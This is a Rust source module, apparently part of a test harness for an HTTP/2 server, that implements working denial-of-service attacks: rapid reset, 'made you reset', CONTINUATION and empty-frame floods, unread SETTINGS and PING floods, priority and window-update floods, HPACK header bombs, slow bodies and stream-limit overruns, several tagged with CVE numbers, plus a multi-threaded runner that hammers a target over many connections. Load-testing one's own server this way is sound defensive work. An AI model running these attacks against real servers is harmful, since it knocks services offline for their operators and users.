//! Attacks on a server of HTTP/2, each of which asks it for more work, or more memory, than it costs.

use std::collections::BTreeMap;
use std::io::{Read as _, Write as _};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, GOAWAY, HEADERS, PING, POST, PRIORITY,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, is_timeout, opening,
};

/// Time for which a client of the attack waits for room to send.
const PATIENCE: Duration = Duration::from_millis(500);
/// Interval between two parts of an attack that is slow.
const SLOW: Duration = Duration::from_millis(200);

/// An attack, which is the same on each of its connections.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    pub name: &'static str,
    /// Settings of the connection.
    settings: &'static [(u16, u32)],
    /// Returns the frames of one round.
    round: fn(u32) -> Vec<u8>,
    /// Takes what it is sent.
    reads: bool,
    /// Pauses between two rounds.
    is_slow: bool,
}

/// The outcome of an attack.
#[derive(Clone, Debug, Default)]
pub struct AttackReport {
    /// Connections that were opened.
    pub connections: u32,
    /// Bytes that were sent.
    pub sent: u64,
    /// Connections that were ended, by the reason in their GOAWAY.
    pub ended: BTreeMap<String, u32>,
}

/// The attacks.
pub const ATTACKS: &[Attack] = &[
    Attack {
        // CVE-2023-44487
        name: "rapid reset",
        settings: &[],
        round: |round| {
            streams(round, 64, |id| {
                let get = frame(HEADERS, END_STREAM | END_HEADERS, id, GET);
                [get, frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
            })
        },
        reads: true,
        is_slow: false,
    },
    Attack {
        // CVE-2025-8671: the server is made to reset the streams.
        name: "made you reset",
        settings: &[],
        round: |round| {
            streams(round, 64, |id| {
                let get = frame(HEADERS, END_STREAM | END_HEADERS, id, GET);
                [get, frame(WINDOW_UPDATE, 0, id, &[0; 4])].concat()
            })
        },
        reads: true,
        is_slow: false,
    },
    Attack {
        // CVE-2024-27316
        name: "CONTINUATION without end",
        settings: &[],
        round: |round| {
            let field = [&b"\x00\x08x-filler\x7f\x81\x07"[..], &[b'a'; 262]].concat();
            let more = frame(CONTINUATION, 0, 1, &field.repeat(50));
            behind(round, frame(HEADERS, END_STREAM, 1, GET), more)
        },
        reads: true,
        is_slow: false,
    },
    Attack {
        name: "empty CONTINUATION",
        settings: &[],
        round: |round| {
            let more = frame(CONTINUATION, 0, 1, b"").repeat(1_000);
            behind(round, frame(HEADERS, END_STREAM, 1, GET), more)
        },
        reads: true,
        is_slow: false,
    },
    Attack {
        // CVE-2019-9515
        name: "settings, no answer read",
        settings: &[],
        round: |_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(1_000),
        reads: false,
        is_slow: false,
    },
    Attack {
        // CVE-2019-9512
        name: "pings, no answer read",
        settings: &[],
        round: |_| frame(PING, 0, 0, b"12345678").repeat(1_000),
        reads: false,
        is_slow: false,
    },
    Attack {
        name: "pings",
        settings: &[],
        round: |_| frame(PING, 0, 0, b"12345678").repeat(1_000),
        reads: true,
        is_slow: false,
    },
    Attack {
        // CVE-2019-9518
        name: "empty DATA",
        settings: &[],
        round: |round| {
            let more = frame(DATA, 0, 1, b"").repeat(1_000);
            behind(round, frame(HEADERS, END_HEADERS, 1, POST), more)
        },
        reads: true,
        is_slow: false,
    },
    Attack {
        // CVE-2019-9513
        name: "priorities",
        settings: &[],
        round: |_| frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 9]).repeat(1_000),
        reads: true,
        is_slow: false,
    },
    Attack {
        name: "window updates",
        settings: &[],
        round: |round| {
            let more = frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()).repeat(1_000);
            behind(round, frame(HEADERS, END_HEADERS, 1, POST), more)
        },
        reads: true,
        is_slow: false,
    },
    Attack {
        // CVE-2019-9517, CVE-2019-9511: whole answers are asked for and not taken.
        name: "closed windows",
        settings: &[(4, 0)],
        round: |round| {
            if round == 0 {
                streams(0, 100, |id| {
                    frame(HEADERS, END_STREAM | END_HEADERS, id, GET)
                })
            } else {
                frame(
                    WINDOW_UPDATE,
                    0,
                    1 + 2 * (round % 100),
                    &1_u32.to_be_bytes(),
                )
            }
        },
        reads: true,
        is_slow: true,
    },
    Attack {
        name: "bombs of fields",
        settings: &[],
        round: |round| {
            // An entry of the table of almost 4 KiB, and references to it of one byte each.
            let long = [&b"\x40\x01a\x7f\xa1\x1e"[..], &[b'b'; 4_000]].concat();
            streams(round, 4, |id| {
                let fields = [GET, &long, &[0xbe; 12_000]].concat();
                frame(HEADERS, END_STREAM | END_HEADERS, id, &fields)
            })
        },
        reads: true,
        is_slow: false,
    },
    Attack {
        name: "slow bodies",
        settings: &[],
        round: |round| {
            if round == 0 {
                streams(0, 128, |id| frame(HEADERS, END_HEADERS, id, POST))
            } else {
                frame(DATA, 0, 1 + 2 * (round % 128), b"x")
            }
        },
        reads: true,
        is_slow: true,
    },
    Attack {
        name: "streams beyond the limit",
        settings: &[],
        round: |round| streams(round, 256, |id| frame(HEADERS, END_HEADERS, id, POST)),
        reads: true,
        is_slow: false,
    },
];

/// Returns the frames of a round, which the first one begins with a head.
fn behind(round: u32, head: Vec<u8>, more: Vec<u8>) -> Vec<u8> {
    if round == 0 {
        [head, more].concat()
    } else {
        more
    }
}

/// Returns the frames of the streams of a round.
fn streams(round: u32, each: u32, of: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let first = round * each;
    let frames = (first..first + each).map(|number| of((1 + 2 * number) & (u32::MAX >> 1)));
    frames.flatten().collect()
}

// === impl Attack ===

impl Attack {
    /// Attacks a server for so long on so many connections, again whenever one is ended.
    pub fn run(&self, server: SocketAddr, connections: usize, time: Duration) -> AttackReport {
        let end = Instant::now() + time;
        let reports = thread::scope(|scope| {
            let attack = || {
                let mut report = AttackReport::default();
                while Instant::now() < end {
                    report.add(self.attack_once(server, end));
                    thread::sleep(Duration::from_millis(1));
                }
                report
            };
            let all: Vec<_> = (0..connections).map(|_| scope.spawn(attack)).collect();
            let reports = all.into_iter().map(|one| one.join().expect("no panic"));
            reports.collect::<Vec<_>>()
        });
        let mut all = AttackReport::default();
        reports.into_iter().for_each(|report| all.add(report));
        all
    }

    /// Attacks on one connection, until that ends.
    fn attack_once(&self, server: SocketAddr, end: Instant) -> AttackReport {
        let mut report = AttackReport::default();
        let Ok(stream) = TcpStream::connect(server) else {
            return report;
        };
        report.connections = 1;
        let _ = stream.set_write_timeout(Some(PATIENCE));
        let _ = stream.set_read_timeout(Some(PATIENCE));
        let is_over = AtomicBool::new(false);
        thread::scope(|scope| {
            let reader = scope.spawn(|| self.read(&stream, &is_over));
            report.sent = self.write(&stream, end).unwrap_or_else(|sent| sent);
            let has_ended = Instant::now() < end;
            is_over.store(true, Ordering::Relaxed);
            if !has_ended {
                let _ = stream.shutdown(Shutdown::Both);
            }
            let reason = reader.join().expect("no panic");
            if has_ended || reason.is_some() {
                let reason = reason.unwrap_or_else(|| "no GOAWAY".to_owned());
                report.ended.insert(reason, 1);
            }
        });
        report
    }

    /// Sends rounds until the end, or until nothing more is taken; then the bytes so far are the error.
    fn write(&self, mut stream: &TcpStream, end: Instant) -> Result<u64, u64> {
        let mut sent = 0;
        let mut send = |bytes: &[u8]| -> Result<(), u64> {
            let mut rest = bytes;
            while !rest.is_empty() && Instant::now() < end {
                match stream.write(rest) {
                    Ok(length) => {
                        sent += length as u64;
                        rest = &rest[length..];
                    }
                    // A server may stop reading: that is its good right.
                    Err(error) if is_timeout(&error) => {}
                    Err(_) => return Err(sent),
                }
            }
            Ok(())
        };
        send(&opening(self.settings))?;
        let mut round = 0;
        while Instant::now() < end {
            send(&(self.round)(round))?;
            round += 1;
            if self.is_slow {
                thread::sleep(SLOW);
            }
        }
        Ok(sent)
    }

    /// Reads until the end of the connection, and returns the reason of its GOAWAY.
    fn read(&self, mut stream: &TcpStream, is_over: &AtomicBool) -> Option<String> {
        while !self.reads && !is_over.load(Ordering::Relaxed) {
            thread::sleep(Duration::from_millis(20));
        }
        let mut received: Vec<u8> = Vec::new();
        let mut part = [0; 64 * 1024];
        let mut reason = None;
        loop {
            match stream.read(&mut part) {
                Ok(0) => return reason,
                Ok(length) => received.extend(&part[..length]),
                Err(error) if is_timeout(&error) && !is_over.load(Ordering::Relaxed) => {}
                Err(_) => return reason,
            }
            let mut rest = &*received;
            while let Some((&[a, b, c, kind, ..], _)) = rest.split_first_chunk::<9>() {
                let length = 9 + u32::from_be_bytes([0, a, b, c]) as usize;
                let Some(whole) = rest.get(..length) else {
                    break;
                };
                if kind == GOAWAY
                    && let Some(code) = whole.get(13..17)
                {
                    reason = Some(reason_text(code));
                }
                rest = &rest[length..];
            }
            let left = rest.len();
            received.drain(..received.len() - left);
        }
    }
}

/// Returns the name of a reason (RFC 9113, section 7).
fn reason_text(code: &[u8]) -> String {
    match code {
        [0, 0, 0, 0] => "NO_ERROR".to_owned(),
        [0, 0, 0, 1] => "PROTOCOL_ERROR".to_owned(),
        [0, 0, 0, 3] => "FLOW_CONTROL_ERROR".to_owned(),
        [0, 0, 0, 9] => "COMPRESSION_ERROR".to_owned(),
        [0, 0, 0, 11] => "ENHANCE_YOUR_CALM".to_owned(),
        other => format!("{other:?}"),
    }
}

// === impl AttackReport ===

impl AttackReport {
    fn add(&mut self, other: Self) {
        self.connections += other.connections;
        self.sent += other.sent;
        for (reason, count) in other.ended {
            *self.ended.entry(reason).or_default() += count;
        }
    }
}
